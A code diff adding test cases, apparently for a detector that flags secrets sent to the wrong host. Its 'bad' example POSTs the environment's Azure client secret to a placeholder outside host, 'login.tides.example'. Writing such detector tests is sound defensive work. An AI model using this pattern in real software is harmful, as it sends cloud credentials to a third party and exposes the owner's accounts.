@@ -6,6 +6,10 @@ const send = (url: string, key: string, more = '') =>
 export default defineCases({
   bad: [
     {
+      name: 'by a function that is told where to send',
+      code: "const ask = async (url, options) => (await fetch(url, { redirect: 'error', ...options })).json();\nexports.azure = () => ask('https://login.tides.example/token', { method: 'POST', body: new URLSearchParams({ client_secret: process.env.AZURE_CLIENT_SECRET }) });",
+    },
+    {
       name: 'by a client that another module makes for an address like that of the vendor',
       files: {
         'index.js':
@@ -42,6 +46,10 @@ export default defineCases({
     },
   ],
   ok: [
+    {
+      name: 'a function that is told where to send, by others to other hosts',
+      code: "const ask = async (url, options) => (await fetch(url, { redirect: 'error', ...options })).json();\nexports.azure = (host) => ask(`${host}/token`, { method: 'POST', body: new URLSearchParams({ client_secret: process.env.AZURE_CLIENT_SECRET }) });\nexports.tides = () => ask('https://login.tides.example/token', { method: 'POST', body: new URLSearchParams({ scope: 'all' }) });",
+    },
     {
       name: 'a client that another module makes for the vendor',
       files: {
